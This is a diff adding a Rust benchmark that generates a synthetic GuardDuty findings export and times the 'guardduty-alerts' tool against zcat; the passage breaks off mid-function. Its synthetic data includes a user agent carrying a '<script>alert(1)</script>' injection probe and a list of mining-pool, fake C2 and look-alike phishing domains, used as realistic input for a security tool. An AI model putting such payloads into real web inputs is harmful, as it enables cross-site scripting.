@@ -1,0 +1,2251 @@
+//! End-to-end throughput benchmark: `guardduty-alerts process` against `zcat`.
+//!
+//! Run it with
+//!
+//! ```text
+//! cargo bench --bench throughput
+//! BENCH_FINDINGS=20000 BENCH_ROUNDS=3 cargo bench --bench throughput     # quick smoke run
+//! BENCH_EXTRA_ARGS="--some-flag value" cargo bench --bench throughput    # compare options
+//! ```
+//!
+//! It is a plain program (`harness = false`), not a timed test: it reports and does not assert
+//! performance. It exits non-zero only when a run fails or our binary's counts are wrong.
+//!
+//! What it does:
+//!
+//! 1. **Input.** Generates a synthetic GuardDuty findings export (gzip'd JSON Lines) at
+//!    `$CARGO_TARGET_DIR/bench-data/export-{N}.jsonl.gz` (default target dir: `target/` next to
+//!    `Cargo.toml`), N = `BENCH_FINDINGS` (default 500 000, about 1.8 GB decompressed). Findings
+//!    rotate through 13 templates (EC2 port probe / network connection / DNS, access-key API calls,
+//!    S3 bucket, EKS audit log, container runtime, ECS, RDS login, Lambda, attack sequence) with
+//!    varied ids, accounts, regions, severities, counts, timestamps and addresses; a fixed seed
+//!    makes the file reproducible. A new gzip member starts every 50 000 findings, so the reader's
+//!    multi-member path is exercised. Generation streams; a sidecar `export-{N}.meta` records the
+//!    counts so later runs reuse the file instead of regenerating it.
+//! 2. **Runs.** `BENCH_ROUNDS` rounds (default 5), alternating which tool goes first, of
+//!    `zcat FILE > /dev/null` (the decompress-only floor every reader pays) and
+//!    `guardduty-alerts process --format json FILE [BENCH_EXTRA_ARGS…] > /dev/null`. Each run is
+//!    timed from spawn to reap, and its peak RSS is read from `wait4(2)` for that child alone.
+//!    Our binary's last stderr line must be a JSON summary whose `findings` equals N and whose
+//!    `decompressed_bytes` equals the generated size.
+//! 3. **Report.** Median and minimum wall time, decompressed MB/s and findings/s (on the median),
+//!    median peak RSS, the speed-up over `zcat`, and whether the targets hold: at least
+//!    2.4x faster than `zcat` and at most 32 MB peak RSS (MB = 10^6 bytes throughout).
+
+use std::collections::VecDeque;
+use std::env;
+use std::fmt::Write as _;
+use std::fs::{self, File};
+use std::io::{BufWriter, Read, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use serde_json::{Value, json};
+
+/// Path of the binary under test; Cargo builds it for bench targets.
+const BIN: &str = env!("CARGO_BIN_EXE_guardduty-alerts");
+/// Findings per gzip member.
+const MEMBER_FINDINGS: u64 = 50_000;
+/// Bump when the generator's output changes, so stale files are regenerated.
+const GENERATOR_VERSION: u32 = 1;
+/// Seed of the generator's PRNG: the same N always gives the same file.
+const SEED: u64 = 0x6775_6172_6464_7574;
+/// Speed-up over `zcat` the product aims for.
+const TARGET_SPEEDUP: f64 = 2.4;
+/// Peak RSS the product aims to stay under, in bytes.
+const TARGET_RSS_BYTES: f64 = 32e6;
+/// How much of our binary's stderr is kept (its tail) for the summary and error messages.
+const STDERR_TAIL_BYTES: usize = 64 * 1024;
+
+fn main() {
+    let findings = env_u64("BENCH_FINDINGS", 500_000);
+    let rounds = env_u64("BENCH_ROUNDS", 5);
+    assert!(findings > 0, "BENCH_FINDINGS must be at least 1");
+    assert!(rounds > 0, "BENCH_ROUNDS must be at least 1");
+    let extra_args: Vec<String> = env::var("BENCH_EXTRA_ARGS")
+        .unwrap_or_default()
+        .split_whitespace()
+        .map(str::to_owned)
+        .collect();
+
+    let data_dir = target_dir().join("bench-data");
+    fs::create_dir_all(&data_dir)
+        .unwrap_or_else(|e| panic!("cannot create {}: {e}", data_dir.display()));
+    let export = data_dir.join(format!("export-{findings}.jsonl.gz"));
+    let meta_path = data_dir.join(format!("export-{findings}.meta"));
+
+    let meta = match ExportMeta::load_matching(&meta_path, &export, findings) {
+        Some(meta) => {
+            println!("reusing {} ({})", export.display(), meta.describe());
+            meta
+        }
+        None => {
+            println!("generating {} ({findings} findings)…", export.display());
+            let meta = generate(&export, findings);
+            meta.store(&meta_path);
+            println!(
+                "generated in {:.1} s ({})",
+                meta.generation_seconds,
+                meta.describe()
+            );
+            meta
+        }
+    };
+
+    let cpus = thread::available_parallelism().map_or(0, std::num::NonZero::get);
+    println!();
+    println!(
+        "machine : {cpus} CPUs available to this process{}",
+        cpu_model()
+    );
+    println!("input   : {} findings, {}", meta.findings, meta.describe());
+    println!("zcat    : zcat FILE > /dev/null");
+    println!(
+        "ours    : {BIN} process --format json FILE{}{} > /dev/null",
+        if extra_args.is_empty() { "" } else { " " },
+        extra_args.join(" ")
+    );
+    println!("rounds  : {rounds}, alternating which tool runs first");
+    println!();
+
+    warm_page_cache(&export);
+
+    let mut zcat_runs = Vec::new();
+    let mut our_runs = Vec::new();
+    for round in 1..=rounds {
+        let ours_first = round % 2 == 0;
+        for ours in [ours_first, !ours_first] {
+            if ours {
+                let run = run_ours(&export, &extra_args);
+                check_summary(&run, &meta);
+                print_run(round, rounds, "guardduty-alerts", &run, &meta);
+                our_runs.push(run);
+            } else {
+                let run = run_zcat(&export);
+                print_run(round, rounds, "zcat", &run, &meta);
+                zcat_runs.push(run);
+            }
+        }
+    }
+
+    report(&zcat_runs, &our_runs, &meta);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Configuration
+// ---------------------------------------------------------------------------------------------
+
+/// Reads a positive integer from the environment, or `default` when the variable is unset.
+fn env_u64(name: &str, default: u64) -> u64 {
+    match env::var(name) {
+        Ok(text) => text
+            .trim()
+            .replace('_', "")
+            .parse()
+            .unwrap_or_else(|e| panic!("{name}={text:?} is not a whole number: {e}")),
+        Err(env::VarError::NotPresent) => default,
+        Err(e) => panic!("{name} is not usable: {e}"),
+    }
+}
+
+/// Cargo's target directory: `CARGO_TARGET_DIR` if set, else `target/` next to `Cargo.toml`.
+fn target_dir() -> PathBuf {
+    env::var_os("CARGO_TARGET_DIR")
+        .filter(|dir| !dir.is_empty())
+        .map_or_else(
+            || Path::new(env!("CARGO_MANIFEST_DIR")).join("target"),
+            PathBuf::from,
+        )
+}
+
+/// `", <model name>"` from `/proc/cpuinfo`, or nothing where that is not available.
+fn cpu_model() -> String {
+    fs::read_to_string("/proc/cpuinfo")
+        .ok()
+        .and_then(|info| {
+            info.lines()
+                .find_map(|line| line.strip_prefix("model name"))
+                .and_then(|rest| rest.split_once(':'))
+                .map(|(_, model)| format!(", {}", model.trim()))
+        })
+        .unwrap_or_default()
+}
+
+// ---------------------------------------------------------------------------------------------
+// The generated export and its sidecar
+// ---------------------------------------------------------------------------------------------
+
+/// What is known about a generated export; stored as `key=value` lines in `export-{N}.meta`.
+#[derive(Debug, Clone, PartialEq)]
+struct ExportMeta {
+    generator: u32,
+    findings: u64,
+    members: u64,
+    compressed_bytes: u64,
+    decompressed_bytes: u64,
+    generation_seconds: f64,
+}
+
+impl ExportMeta {
+    /// The sidecar at `path`, if it describes `export` as the current generator would write it
+    /// for `findings` findings (and the file is still there with the recorded size).
+    fn load_matching(path: &Path, export: &Path, findings: u64) -> Option<Self> {
+        let text = fs::read_to_string(path).ok()?;
+        let meta = Self::parse(&text)?;
+        let on_disk = fs::metadata(export).ok()?.len();
+        let current = meta.generator == GENERATOR_VERSION
+            && meta.findings == findings
+            && meta.compressed_bytes == on_disk;
+        if !current {
+            println!("{} is stale; regenerating", path.display());
+        }
+        current.then_some(meta)
+    }
+
+    fn parse(text: &str) -> Option<Self> {
+        let field = |key: &str| {
+            text.lines()
+                .filter_map(|line| line.split_once('='))
+                .find(|(k, _)| k.trim() == key)
+                .map(|(_, v)| v.trim().to_owned())
+        };
+        Some(Self {
+            generator: field("generator")?.parse().ok()?,
+            findings: field("findings")?.parse().ok()?,
+            members: field("members")?.parse().ok()?,
+            compressed_bytes: field("compressed_bytes")?.parse().ok()?,
+            decompressed_bytes: field("decompressed_bytes")?.parse().ok()?,
+            generation_seconds: field("generation_seconds")?.parse().ok()?,
+        })
+    }
+
+    fn store(&self, path: &Path) {
+        let text = format!(
+            "generator={}\nfindings={}\nmembers={}\ncompressed_bytes={}\ndecompressed_bytes={}\n\
+             generation_seconds={:.3}\n",
+            self.generator,
+            self.findings,
+            self.members,
+            self.compressed_bytes,
+            self.decompressed_bytes,
+            self.generation_seconds,
+        );
+        fs::write(path, text).unwrap_or_else(|e| panic!("cannot write {}: {e}", path.display()));
+    }
+
+    fn describe(&self) -> String {
+        format!(
+            "{} findings, {:.1} MB gzip in {} members, {:.1} MB decompressed, {:.0} bytes/finding",
+            self.findings,
+            mb(self.compressed_bytes),
+            self.members,
+            mb(self.decompressed_bytes),
+            self.decompressed_bytes as f64 / self.findings as f64,
+        )
+    }
+}
+
+/// Writes `findings` synthetic findings to `path` (via a temporary file, renamed at the end).
+/// Streams: only one line is ever held in memory.
+fn generate(path: &Path, findings: u64) -> ExportMeta {
+    let started = Instant::now();
+    let tmp = path.with_extension("gz.partial");
+    let file =
+        File::create(&tmp).unwrap_or_else(|e| panic!("cannot create {}: {e}", tmp.display()));
+    let write_failed = |e: std::io::Error| -> ! { panic!("writing {} failed: {e}", tmp.display()) };
+
+    let mut out = GzEncoder::new(
+        BufWriter::with_capacity(1 << 20, file),
+        Compression::default(),
+    );
+    let mut generator = Generator::new(SEED);
+    let mut line = Vec::with_capacity(16 * 1024);
+    let mut decompressed_bytes = 0u64;
+    let mut members = 1u64;
+    for n in 0..findings {
+        if n > 0 && n % MEMBER_FINDINGS == 0 {
+            let inner = out.finish().unwrap_or_else(|e| write_failed(e));
+            out = GzEncoder::new(inner, Compression::default());
+            members += 1;
+        }
+        line.clear();
+        generator.finding(n, &mut line);
+        out.write_all(&line).unwrap_or_else(|e| write_failed(e));
+        decompressed_bytes += line.len() as u64;
+    }
+    let mut buffered = out.finish().unwrap_or_else(|e| write_failed(e));
+    buffered.flush().unwrap_or_else(|e| write_failed(e));
+    let file = buffered
+        .into_inner()
+        .unwrap_or_else(|e| write_failed(e.into_error()));
+    file.sync_all().unwrap_or_else(|e| write_failed(e));
+    drop(file);
+    fs::rename(&tmp, path)
+        .unwrap_or_else(|e| panic!("cannot rename {} to {}: {e}", tmp.display(), path.display()));
+    let compressed_bytes = fs::metadata(path)
+        .unwrap_or_else(|e| panic!("cannot stat {}: {e}", path.display()))
+        .len();
+
+    ExportMeta {
+        generator: GENERATOR_VERSION,
+        findings,
+        members,
+        compressed_bytes,
+        decompressed_bytes,
+        generation_seconds: started.elapsed().as_secs_f64(),
+    }
+}
+
+/// Reads the export once so that neither tool pays for the first read from disk.
+fn warm_page_cache(path: &Path) {
+    let mut file =
+        File::open(path).unwrap_or_else(|e| panic!("cannot open {}: {e}", path.display()));
+    let mut buf = vec![0u8; 1 << 20];
+    while file
+        .read(&mut buf)
+        .unwrap_or_else(|e| panic!("cannot read {}: {e}", path.display()))
+        > 0
+    {}
+}
+
+// ---------------------------------------------------------------------------------------------
+// Synthetic findings
+// ---------------------------------------------------------------------------------------------
+
+/// SplitMix64: small, fast, and good enough to vary test data.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+
+    /// Uniform in `0..n` (n > 0; the tiny modulo bias does not matter here).
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+
+    /// Uniform in `lo..=hi`.
+    fn range(&mut self, lo: u64, hi: u64) -> u64 {
+        lo + self.below(hi - lo + 1)
+    }
+
+    fn index(&mut self, len: usize) -> usize {
+        usize::try_from(self.below(len as u64)).expect("an index below a usize fits a usize")
+    }
+
+    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
+        items[self.index(items.len())]
+    }
+
+    fn chance(&mut self, percent: u64) -> bool {
+        self.below(100) < percent
+    }
+
+    /// `len` lowercase hex digits.
+    fn hex(&mut self, len: usize) -> String {
+        self.chars(len, b"0123456789abcdef")
+    }
+
+    /// `len` characters of an AWS-style upper-case id (`AKIA…`, `AROA…` suffixes).
+    fn upper(&mut self, len: usize) -> String {
+        self.chars(len, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
+    }
+
+    fn chars(&mut self, len: usize, alphabet: &[u8]) -> String {
+        (0..len)
+            .map(|_| char::from(alphabet[self.index(alphabet.len())]))
+            .collect()
+    }
+
+    /// A public-looking IPv4 address.
+    fn public_ip(&mut self) -> String {
+        const FIRST: [u8; 24] = [
+            5, 23, 31, 37, 45, 46, 61, 77, 80, 85, 89, 91, 103, 109, 116, 141, 159, 176, 185, 193,
+            194, 195, 212, 217,
+        ];
+        let first = FIRST[self.index(FIRST.len())];
+        format!(
+            "{first}.{}.{}.{}",
+            self.below(256),
+            self.below(256),
+            self.range(1, 254)
+        )
+    }
+
+    /// A VPC address in 10.0.0.0/8 or 172.31.0.0/16.
+    fn private_ip(&mut self) -> String {
+        if self.chance(70) {
+            format!(
+                "10.{}.{}.{}",
+                self.below(64),
+                self.below(256),
+                self.range(4, 254)
+            )
+        } else {
+            format!("172.31.{}.{}", self.below(256), self.range(4, 254))
+        }
+    }
+
+    /// A finding count: mostly 1, with a long tail of repeated activity.
+    fn count(&mut self) -> u64 {
+        match self.below(10) {
+            0..=5 => 1,
+            6 | 7 => self.range(2, 20),
+            8 => self.range(21, 500),
+            _ => self.range(501, 25_000),
+        }
+    }
+}
+
+/// Where an attacker connects from.
+struct Geo {
+    country: &'static str,
+    code: &'static str,
+    city: &'static str,
+    lat: f64,
+    lon: f64,
+    asn: &'static str,
+    asn_org: &'static str,
+    isp: &'static str,
+}
+
+#[rustfmt::skip]
+const GEOS: [Geo; 14] = [
+    Geo { country: "Netherlands", code: "NL", city: "Amsterdam", lat: 52.3759, lon: 4.8975, asn: "60781", asn_org: "LeaseWeb Netherlands B.V.", isp: "LeaseWeb Netherlands B.V." },
+    Geo { country: "Germany", code: "DE", city: "Falkenstein", lat: 50.4779, lon: 12.3713, asn: "24940", asn_org: "Hetzner Online GmbH", isp: "Hetzner Online GmbH" },
+    Geo { country: "Russia", code: "RU", city: "Saint Petersburg", lat: 59.8944, lon: 30.2642, asn: "49505", asn_org: "JSC Selectel", isp: "Selectel" },
+    Geo { country: "China", code: "CN", city: "Shenzhen", lat: 22.5455, lon: 114.0683, asn: "4134", asn_org: "Chinanet", isp: "China Telecom" },
+    Geo { country: "United States", code: "US", city: "North Bergen", lat: 40.7930, lon: -74.0247, asn: "14061", asn_org: "DIGITALOCEAN-ASN", isp: "DigitalOcean, LLC" },
+    Geo { country: "United States", code: "US", city: "Columbus", lat: 39.9612, lon: -82.9988, asn: "16509", asn_org: "AMAZON-02", isp: "Amazon.com" },
+    Geo { country: "Brazil", code: "BR", city: "Sao Paulo", lat: -23.5475, lon: -46.6361, asn: "28573", asn_org: "Claro NXT Telecomunicacoes Ltda", isp: "Claro S.A." },
+    Geo { country: "Vietnam", code: "VN", city: "Hanoi", lat: 21.0245, lon: 105.8412, asn: "45899", asn_org: "VNPT Corp", isp: "VNPT" },
+    Geo { country: "Romania", code: "RO", city: "Bucharest", lat: 44.4323, lon: 26.1063, asn: "9050", asn_org: "Orange Romania Communication S.A", isp: "Orange Romania" },
+    Geo { country: "India", code: "IN", city: "Mumbai", lat: 19.0728, lon: 72.8826, asn: "9829", asn_org: "National Internet Backbone", isp: "BSNL" },
+    Geo { country: "Seychelles", code: "SC", city: "Victoria", lat: -4.6167, lon: 55.45, asn: "204957", asn_org: "Green Floid LLC", isp: "Green Floid LLC" },
+    Geo { country: "South Korea", code: "KR", city: "Seoul", lat: 37.5660, lon: 126.9784, asn: "4766", asn_org: "Korea Telecom", isp: "Korea Telecom" },
+    Geo { country: "France", code: "FR", city: "Roubaix", lat: 50.6942, lon: 3.1746, asn: "16276", asn_org: "OVH SAS", isp: "OVH SAS" },
+    Geo { country: "Singapore", code: "SG", city: "Singapore", lat: 1.2897, lon: 103.8501, asn: "63949", asn_org: "Akamai Connected Cloud", isp: "Linode" },
+];
+
+const REGIONS: [&str; 12] = [
+    "us-east-1",
+    "us-east-2",
+    "us-west-2",
+    "eu-west-1",
+    "eu-west-2",
+    "eu-central-1",
+    "eu-north-1",
+    "ap-southeast-2",
+    "ap-northeast-1",
+    "ap-south-1",
+    "ca-central-1",
+    "sa-east-1",
+];
+
+const USER_AGENTS: [&str; 8] = [
+    "aws-cli/2.15.30 Python/3.11.8 Linux/5.15.0-1055-aws exe/x86_64.ubuntu.22 prompt/off command/s3.ls",
+    "aws-cli/1.29.62 Python/3.11.6 Linux/6.5.0-kali3-amd64 botocore/1.31.62",
+    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.79 md/arch#x86_64 lang/python#3.12.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69",
+    "aws-sdk-go-v2/1.25.2 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64 api/iam#1.31.2",
+    "aws-sdk-java/2.25.11 Linux/5.10.210-201.852.amzn2.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10 vendor/Amazon.com_Inc. io/sync http/Apache cfg/retry-mode/adaptive",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
+    "python-requests/2.31.0 \"pacu/1.5.3\" <script>alert(1)</script>",
+    "[S3Browser/11.6.7 (https://s3browser.com)]",
+];
+
+const USER_NAMES: [&str; 10] = [
+    "deploy-bot",
+    "alice.martin",
+    "ci-runner",
+    "terraform",
+    "j.okafor",
+    "backup-svc",
+    "root",
+    "data-eng-etl",
+    "m.kowalski",
+    "break-glass-admin",
+];
+
+const ROLE_NAMES: [&str; 8] = [
+    "ec2-app-role",
+    "AWSReservedSSO_AdministratorAccess_4b1c9e2f8a7d6e5c",
+    "GitHubActionsDeploy",
+    "eks-node-group-role",
+    "lambda-ingest-role",
+    "OrganizationAccountAccessRole",
+    "ecsTaskExecutionRole",
+    "DataPipelineRole",
+];
+
+const TEAMS: [&str; 8] = [
+    "payments",
+    "platform",
+    "data-eng",
+    "identity",
+    "search",
+    "growth",
+    "security",
+    "mobile-api",
+];
+
+const APPS: [&str; 10] = [
+    "checkout-api",
+    "ledger",
+    "image-resizer",
+    "auth-gateway",
+    "reporting",
+    "etl-nightly",
+    "web-frontend",
+    "notification-svc",
+    "inventory",
+    "ml-feature-store",
+];
+
+const DOMAINS: [&str; 10] = [
+    "xmr.pool.minergate.com",
+    "pool.supportxmr.com",
+    "c2.update-check.net",
+    "login.micros0ft-secure.com",
+    "api.pastebin-cdn.org",
+    "gulf.moneroocean.stream",
+    "dl.free-vpn-proxy.ru",
+    "cdn.jsdelivr-static.info",
+    "mining.nicehash-api.io",
+    "telemetry.win-updates.xyz",
+];
+
+/// Produces one synthetic finding after another.
+struct Generator {
+    rng: Rng,
+    accounts: Vec<(String, String)>,
+}
+
+/// What all templates share for one finding.
+struct Ctx {
+    account: String,
+    detector: String,
+    region: &'static str,
+    id: String,
+    first_seen: i64,
+    last_seen: i64,
+    count: u64,
+}
+
+/// The parts of a finding a template decides.
+struct Body {
+    kind: String,
+    severity: Value,
+    title: String,
+    description: String,
+    resource: Value,
+    service: Value,
+}
+
+impl Generator {
+    fn new(seed: u64) -> Self {
+        let mut rng = Rng(seed);
+        // An administrator account's export carries its member accounts' findings too.
+        let accounts = (0..40)
+            .map(|_| {
+                let account = format!("{:012}", rng.below(1_000_000_000_000));
+                (account, rng.hex(32))
+            })
+            .collect();
+        Self { rng, accounts }
+    }
+
+    /// Appends finding number `n` as one JSON line (with its `\n`) to `out`.
+    fn finding(&mut self, n: u64, out: &mut Vec<u8>) {
+        let (account, detector) = self.accounts[self.rng.index(self.accounts.len())].clone();
+        // Findings of one export span up to three months; the last sighting is within a week.
+        let first_seen = 1_740_787_200 + i64::try_from(self.rng.below(90 * 86_400)).expect("fits");
+        let last_seen = first_seen + i64::try_from(self.rng.below(7 * 86_400)).expect("fits");
+        let cx = Ctx {
+            account,
+            detector,
+            region: REGIONS[self.rng.index(REGIONS.len())],
+            id: self.rng.hex(32),
+            first_seen,
+            last_seen,
+            count: self.rng.count(),
+        };
+        let rng = &mut self.rng;
+        let body = match n % 13 {
+            0 => ec2_port_probe(rng, &cx),
+            1 => ec2_inbound_connection(rng, &cx),
+            2 => ec2_outbound_connection(rng, &cx),
+            3 => ec2_dns_request(rng, &cx),
+            4 => access_key_anomaly(rng, &cx),
+            5 => access_key_stealth(rng, &cx),
+            6 => s3_bucket(rng, &cx),
+            7 => eks_audit(rng, &cx),
+            8 => container_runtime(rng, &cx),
+            9 => ecs_cluster(rng, &cx),
+            10 => rds_login(rng, &cx),
+            11 => lambda_network(rng, &cx),
+            _ => attack_sequence(rng, &cx),
+        };
+        let created_ms =
+            cx.first_seen * 1000 + 20_000 + i64::try_from(rng.below(280_000)).expect("fits");
+        let updated_ms = if cx.count == 1 {
+            created_ms
+        } else {
+            (cx.last_seen * 1000 + 20_000 + i64::try_from(rng.below(280_000)).expect("fits"))
+                .max(created_ms)
+        };
+        // Attack sequences carry the `YYYY-MM-DD HH:MM:SS.mmm` form seen in real exports.
+        let stamp = if body.kind.starts_with("AttackSequence:") {
+            sql_ms
+        } else {
+            iso_ms
+        };
+        let arn = format!(
+            "arn:aws:guardduty:{}:{}:detector/{}/finding/{}",
+            cx.region, cx.account, cx.detector, cx.id
+        );
+
+        // Top-level keys in the order of the API model; nested objects come out key-sorted.
+        let fields: [(&str, Value); 15] = [
+            ("schemaVersion", json!("2.0")),
+            ("accountId", json!(cx.account)),
+            ("region", json!(cx.region)),
+            ("partition", json!("aws")),
+            ("id", json!(cx.id)),
+            ("arn", json!(arn)),
+            ("type", json!(body.kind)),
+            ("resource", body.resource),
+            ("service", body.service),
+            ("severity", body.severity),
+            ("createdAt", json!(stamp(created_ms))),
+            ("updatedAt", json!(stamp(updated_ms))),
+            ("title", json!(body.title)),
+            ("description", json!(body.description)),
+            ("confidence", json!(rng.range(5, 9))),
+        ];
+        out.push(b'{');
+        for (i, (key, value)) in fields.iter().enumerate() {
+            if i > 0 {
+                out.push(b',');
+            }
+            serde_json::to_writer(&mut *out, key).expect("serialising into a Vec cannot fail");
+            out.push(b':');
+            serde_json::to_writer(&mut *out, value).expect("serialising into a Vec cannot fail");
+        }
+        out.extend_from_slice(b"}\n");
+    }
+}
+
+// --- timestamps ------------------------------------------------------------------------------
+
+/// Calendar date of a day count since 1970-01-01 (Howard Hinnant's `civil_from_days`).
+fn civil(days: i64) -> (i64, i64, i64) {
+    let z = days + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z.rem_euclid(146_097);
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+    (year, month, day)
+}
+
+fn split_ms(epoch_ms: i64) -> (i64, i64, i64, i64, i64, i64, i64) {
+    let (secs, ms) = (epoch_ms.div_euclid(1000), epoch_ms.rem_euclid(1000));
+    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
+    let (y, mo, d) = civil(days);
+    (y, mo, d, rem / 3600, rem % 3600 / 60, rem % 60, ms)
+}
+
+/// `2025-03-14T09:26:53.123Z`
+fn iso_ms(epoch_ms: i64) -> String {
+    let (y, mo, d, h, mi, s, ms) = split_ms(epoch_ms);
+    format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{ms:03}Z")
+}
+
+/// `2025-03-14T09:26:53.000Z`, as GuardDuty writes `eventFirstSeen` / `eventLastSeen`.
+fn iso_s(epoch_s: i64) -> String {
+    iso_ms(epoch_s * 1000)
+}
+
+/// `2025-03-14 09:26:53.123`
+fn sql_ms(epoch_ms: i64) -> String {
+    let (y, mo, d, h, mi, s, ms) = split_ms(epoch_ms);
+    format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{ms:03}")
+}
+
+/// Seconds before `t`, up to `max_days` days.
+fn before(rng: &mut Rng, t: i64, max_days: u64) -> i64 {
+    t - i64::try_from(rng.range(3600, max_days * 86_400)).expect("fits")
+}
+
+/// Epoch seconds with milliseconds as a float, as some details carry them (`1741000000.123`).
+fn epoch_float(rng: &mut Rng, t: i64) -> Value {
+    json!(t as f64 + rng.below(1000) as f64 / 1000.0)
+}
+
+// --- shared pieces ---------------------------------------------------------------------------
+
+/// Epoch seconds (as a float) up to `max_days` days before `t`.
+fn epoch_before(rng: &mut Rng, t: i64, max_days: u64) -> Value {
+    let when = before(rng, t, max_days);
+    epoch_float(rng, when)
+}
+
+/// A severity: mostly the type's usual band value, sometimes written as a float, sometimes an
+/// adjusted decimal (GuardDuty lowers or raises some findings within their band).
+fn severity(rng: &mut Rng, base: u64) -> Value {
+    match rng.below(10) {
+        0..=5 => json!(base),
+        6 | 7 => json!(base as f64),
+        _ => {
+            let decimals: [f64; 9] = [1.5, 2.5, 3.9, 4.5, 5.3, 6.95, 7.2, 7.8, 8.9];
+            let near = decimals
+                .iter()
+                .copied()
+                .filter(|d| (d - base as f64).abs() < 2.0)
+                .collect::<Vec<_>>();
+            if near.is_empty() {
+                json!(base)
+            } else {
+                json!(near[rng.index(near.len())])
+            }
+        }
+    }
+}
+
+fn remote_ip_details(rng: &mut Rng, ip: &str) -> Value {
+    let geo = &GEOS[rng.index(GEOS.len())];
+    let jitter = |rng: &mut Rng| (rng.below(2001) as f64 - 1000.0) / 10_000.0;
+    let lat = ((geo.lat + jitter(rng)) * 10_000.0).round() / 10_000.0;
+    let lon = ((geo.lon + jitter(rng)) * 10_000.0).round() / 10_000.0;
+    json!({
+        "ipAddressV4": ip,
+        "organization": { "asn": geo.asn, "asnOrg": geo.asn_org, "isp": geo.isp, "org": geo.isp },
+        "country": { "countryCode": geo.code, "countryName": geo.country },
+        "city": { "cityName": geo.city },
+        "geoLocation": { "lat": lat, "lon": lon },
+    })
+}
+
+fn threat_intel(rng: &mut Rng) -> Value {
+    let lists: [&str; 4] = ["ProofPoint", "CrowdStrike", "Amazon", "TorExitNodes"];
+    let names: [&str; 6] = [
+        "TOR exit node",
+        "Cryptocurrency mining pool",
+        "Known C2 server",
+        "SSH brute force source",
+        "Malware distribution host",
+        "Scanner",
+    ];
+    json!({
+        "threatIntelligenceDetails": [{
+            "threatListName": lists[rng.index(lists.len())],
+            "threatNames": [names[rng.index(names.len())]],
+        }]
+    })
+}
+
+/// Between `n.start()` and `n.end()` resource tags, `Name` first, drawn from the kind of tagging policy organisations use.
+fn tags(rng: &mut Rng, name: &str, n: std::ops::RangeInclusive<u64>) -> Value {
+    let n = usize::try_from(rng.range(*n.start(), *n.end())).expect("a tag count fits a usize");
+    let mut out = vec![json!({ "key": "Name", "value": name })];
+    let team = TEAMS[rng.index(TEAMS.len())];
+    let app = APPS[rng.index(APPS.len())];
+    let env = rng.pick(&["production", "staging", "dev", "qa", "sandbox"]);
+    let candidates: [(&str, String); 12] = [
+        ("Environment", env.to_owned()),
+        ("Team", team.to_owned()),
+        ("Owner", format!("{team}-oncall@example.com")),
+        ("Application", app.to_owned()),
+        ("CostCenter", format!("CC-{}", rng.range(1000, 9999))),
+        (
+            "ManagedBy",
+            rng.pick(&["terraform", "cloudformation", "cdk", "pulumi"])
+                .to_owned(),
+        ),
+        ("aws:cloudformation:stack-name", format!("{app}-{env}")),
+        (
+            "DataClassification",
+            rng.pick(&["confidential", "internal", "public", "restricted"])
+                .to_owned(),
+        ),
+        (
+            "Compliance",
+            rng.pick(&["pci-dss", "hipaa", "soc2", "none"]).to_owned(),
+        ),
+        (
+            "BackupPolicy",
+            rng.pick(&["daily-35d", "weekly-12w", "none"]).to_owned(),
+        ),
+        ("Repository", format!("github.com/example-corp/{app}")),
+        (
+            "Version",
+            format!("v{}.{}.{}", rng.below(4), rng.below(30), rng.below(20)),
+        ),
+    ];
+    out.extend(
+        candidates
+            .into_iter()
+            .take(n.saturating_sub(1))
+            .map(|(key, value)| json!({ "key": key, "value": value })),
+    );
+    Value::Array(out)
+}
+
+fn instance_id(rng: &mut Rng) -> String {
+    format!("i-{}", rng.hex(17))
+}
+
+fn instance_details(rng: &mut Rng, cx: &Ctx, instance: &str) -> Value {
+    let private_ip = rng.private_ip();
+    let public_ip = rng.public_ip();
+    let private_dns = format!(
+        "ip-{}.{}.compute.internal",
+        private_ip.replace('.', "-"),
+        if cx.region == "us-east-1" {
+            "ec2"
+        } else {
+            cx.region
+        }
+    );
+    let public_dns = if cx.region == "us-east-1" {
+        format!(
+            "ec2-{}.compute-1.amazonaws.com",
+            public_ip.replace('.', "-")
+        )
+    } else {
+        format!(
+            "ec2-{}.{}.compute.amazonaws.com",
+            public_ip.replace('.', "-"),
+            cx.region
+        )
+    };
+    let app = APPS[rng.index(APPS.len())];
+    let groups: Vec<Value> = (0..rng.range(1, 3))
+        .map(|i| {
+            let name = [format!("{app}-sg"), "default".to_owned(), "bastion-ssh".to_owned()];
+            json!({ "groupName": name[usize::try_from(i).expect("fits")], "groupId": format!("sg-{}", rng.hex(17)) })
+        })
+        .collect();
+    let windows = rng.chance(12);
+    let name = format!("{app}-{}", rng.below(40));
+    json!({
+        "instanceId": instance,
+        "instanceType": rng.pick(&["t3.medium", "m5.xlarge", "c6i.2xlarge", "r6g.large", "m7i.4xlarge", "t3a.small", "g5.xlarge"]),
